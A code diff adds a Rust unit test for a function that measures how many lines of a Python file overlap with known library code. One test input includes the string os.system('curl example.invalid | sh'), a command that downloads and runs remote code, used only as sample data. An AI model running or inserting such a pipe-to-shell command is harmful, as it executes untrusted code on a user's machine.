@@ -625,6 +625,18 @@ mod tests {
     }
 
     #[test]
+    fn library_overlap() {
+        let lib = LibraryLines::new(
+            [b"import warnings\nfrom urllib3.exceptions import SNIMissingWarning\n    x = 1\n".as_slice()].into_iter(),
+        );
+        // short lines and comments do not count; indentation does not matter
+        let copy = b"import warnings\n# a comment that is long enough\n  from urllib3.exceptions import SNIMissingWarning\nx=1\n";
+        assert_eq!(lib.overlap(copy), (2, 2));
+        assert_eq!(lib.overlap(b"import warnings\nos.system('curl example.invalid | sh')\n"), (2, 1));
+        assert_eq!(lib.overlap(b""), (0, 0));
+    }
+
+    #[test]
     fn json_list() {
         assert_eq!(
             json_string_list(r#"["a/setup.py", "b\u00e9/__init__.py"]"#).unwrap(),
